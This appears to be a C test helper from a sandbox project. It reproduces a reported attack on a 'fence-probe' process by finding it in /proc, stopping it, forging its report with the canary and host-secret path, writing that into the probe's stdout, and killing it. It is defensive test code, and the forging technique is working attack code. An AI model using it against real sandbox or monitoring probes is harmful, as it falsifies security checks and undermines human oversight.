/*
 * t_forge: run inside a fence, the attack of issue 9 on the probe.  It
 * waits (at most MS milliseconds) for a fence-probe to appear, stops it
 * (SIGSTOP), fills in TEMPLATE (a report with the words CANARY and
 * SECRETPATH where the canary's address and the host secret's path go,
 * taken from the probe's command line), writes it into the probe's
 * standard output through /proc/PID/fd/1, and kills the probe
 * (SIGKILL).  Prints what it did: "forged PID", "no-write PID ERRNO"
 * (the probe could be stopped but its pipe not opened), or "no-probe",
 * after "watching" once it looks.
 *
 *	t_forge TEMPLATE MS
 */
#include <sys/types.h>

#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static char	 tmpl[256 * 1024], out[256 * 1024 + 8192];

/* argv of pid, NUL-separated, in buf; its length, or -1. */
static ssize_t
cmdline(const char *pid, char *buf, size_t len)
{
	char	 path[64];
	ssize_t	 n;
	int	 fd;

	snprintf(path, sizeof(path), "/proc/%s/cmdline", pid);
	if ((fd = open(path, O_RDONLY)) == -1)
		return (-1);
	n = read(fd, buf, len - 1);
	close(fd);
	if (n > 0)
		buf[n] = '\0';
	return (n);
}

/* The word after `flag' in a NUL-separated argv, or "". */
static const char *
after(const char *argv, ssize_t n, const char *flag)
{
	const char	*p = argv, *end = argv + n;

	while (p < end) {
		if (strcmp(p, flag) == 0 && p + strlen(p) + 1 < end)
			return (p + strlen(p) + 1);
		p += strlen(p) + 1;
	}
	return ("");
}

/* Copy tmpl into out with the two words replaced. */
static size_t
fill(const char *canary, const char *secret)
{
	const char	*p = tmpl, *c;
	size_t		 o = 0, l;

	while (*p != '\0' && o < sizeof(out) - 4096) {
		if (strncmp(p, "CANARY", 6) == 0) {
			l = strlen(canary);
			memcpy(out + o, canary, l);
			o += l;
			p += 6;
		} else if (strncmp(p, "SECRETPATH", 10) == 0) {
			l = strlen(secret);
			memcpy(out + o, secret, l);
			o += l;
			p += 10;
		} else if ((c = strpbrk(p, "CS")) != NULL && c != p) {
			memcpy(out + o, p, (size_t)(c - p));
			o += (size_t)(c - p);
			p = c;
		} else
			out[o++] = *p++;
	}
	return (o);
}

static int
try_pid(const char *pid)
{
	char		 argv[8192], path[64];
	const char	*a0;
	ssize_t		 n;
	size_t		 len;
	pid_t		 p = (pid_t)atoi(pid);
	int		 fd;

	if (p == getpid() || (n = cmdline(pid, argv, sizeof(argv))) <= 0)
		return (0);
	a0 = strrchr(argv, '/') != NULL ? strrchr(argv, '/') + 1 : argv;
	if (strcmp(a0, "fence-probe") != 0 || *after(argv, n, "--canary") ==
	    '\0')
		return (0);
	if (kill(p, SIGSTOP) == -1)
		return (0);
	len = fill(after(argv, n, "--canary"), after(argv, n,
	    "--host-secret"));
	snprintf(path, sizeof(path), "/proc/%s/fd/1", pid);
	if ((fd = open(path, O_WRONLY)) == -1) {
		printf("no-write %s %s\n", pid, strerrorname_np(errno));
		kill(p, SIGKILL);
		return (1);
	}
	if (write(fd, out, len) != (ssize_t)len)
		printf("no-write %s %s\n", pid, strerrorname_np(errno));
	else
		printf("forged %s\n", pid);
	close(fd);
	kill(p, SIGKILL);
	return (1);
}

int
main(int argc, char *argv[])
{
	struct timespec	 t0, t;
	struct dirent	*de;
	DIR		*d;
	ssize_t		 n;
	long		 ms;
	int		 fd;

	if (argc != 3) {
		fprintf(stderr, "usage: t_forge template ms\n");
		return (64);
	}
	if ((fd = open(argv[1], O_RDONLY)) == -1 ||
	    (n = read(fd, tmpl, sizeof(tmpl) - 1)) <= 0) {
		perror(argv[1]);
		return (1);
	}
	close(fd);
	tmpl[n] = '\0';
	ms = atol(argv[2]);
	setvbuf(stdout, NULL, _IOLBF, 0);
	/* For a test that must not ask for the probe before it looks. */
	printf("watching\n");
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		if ((d = opendir("/proc")) == NULL) {
			perror("/proc");
			return (1);
		}
		while ((de = readdir(d)) != NULL)
			if (de->d_name[0] >= '1' && de->d_name[0] <= '9' &&
			    try_pid(de->d_name)) {
				closedir(d);
				return (0);
			}
		closedir(d);
		clock_gettime(CLOCK_MONOTONIC, &t);
		if ((t.tv_sec - t0.tv_sec) * 1000 +
		    (t.tv_nsec - t0.tv_nsec) / 1000000 > ms)
			break;
	}
	printf("no-probe\n");
	return (0);
}
